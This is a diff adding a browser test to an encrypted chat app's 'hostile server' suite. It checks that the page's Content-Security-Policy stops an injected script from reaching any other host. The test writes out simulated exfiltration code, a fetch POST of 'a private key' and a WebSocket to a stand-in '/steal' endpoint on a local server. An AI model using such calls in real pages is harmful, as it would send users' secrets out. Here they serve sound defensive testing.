@@ -1,4 +1,6 @@
 import { exportPublicKeySpkiBase64, generateUserKeyPair } from '@veil/crypto';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import type { HostileProxy } from '@veil/test-env';
 import type { Page } from 'playwright-core';
 import { beforeAll, describe, expect, it } from 'vitest';
@@ -206,5 +208,68 @@ describe('a hostile server (browser)', { timeout: 240_000 }, () => {
     const attempt = await attackerOpens(proxy, attacker.privateKey);
     expect(attempt.tried).toBeGreaterThanOrEqual(4);
     expect(attempt.opened).toBe(0);
+  });
+
+  it("keeps a script in the page from reaching any other host, while the app's own socket connects", async () => {
+    // Another host, as a script injected into the page would post stolen keys to.
+    let reached = 0;
+    const elsewhere = createServer((_req, res) => {
+      reached += 1;
+      res.writeHead(200, { 'access-control-allow-origin': '*' }).end('ok');
+    });
+    elsewhere.on('upgrade', (_req, socket) => {
+      reached += 1;
+      socket.destroy();
+    });
+    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
+    const otherHost = `127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
+    try {
+      const { alice, bob } = await pair('csp');
+      await sayHi(alice.page, bob.name);
+      await openChat(bob.page, alice.name);
+      // The app's own socket works: a message goes over it and arrives live.
+      await sendMessage(alice.page, 'Over the socket');
+      await messageWithText(bob.page, 'Over the socket').waitFor();
+      expect(
+        veil().proxy.events.some((event) => event.viewer === alice.id && event.name === 'send message'),
+      ).toBe(true);
+
+      const violations = () =>
+        alice.page.evaluate(() => (window as { cspViolations?: string[] }).cspViolations);
+      const tried = await alice.page.evaluate(async (host) => {
+        const seen: string[] = [];
+        (window as { cspViolations?: string[] }).cspViolations = seen;
+        document.addEventListener('securitypolicyviolation', (event) =>
+          seen.push(`${event.effectiveDirective} ${event.blockedURI}`),
+        );
+        const posted = await fetch(`http://${host}/steal`, { method: 'POST', body: 'a private key' }).then(
+          () => 'sent',
+          () => 'refused',
+        );
+        const socket = await new Promise<string>((resolve) => {
+          try {
+            const ws = new WebSocket(`ws://${host}/steal`);
+            ws.onopen = () => resolve('open');
+            ws.onerror = () => resolve('refused');
+          } catch {
+            resolve('refused');
+          }
+        });
+        return { posted, socket };
+      }, otherHost);
+      expect(tried).toEqual({ posted: 'refused', socket: 'refused' });
+      // Chromium reports both as violations of connect-src.
+      await expect
+        .poll(violations)
+        .toEqual(
+          expect.arrayContaining([
+            `connect-src http://${otherHost}/steal`,
+            `connect-src ws://${otherHost}/steal`,
+          ]),
+        );
+      expect(reached).toBe(0);
+    } finally {
+      await new Promise((resolve) => elsewhere.close(resolve));
+    }
   });
 });
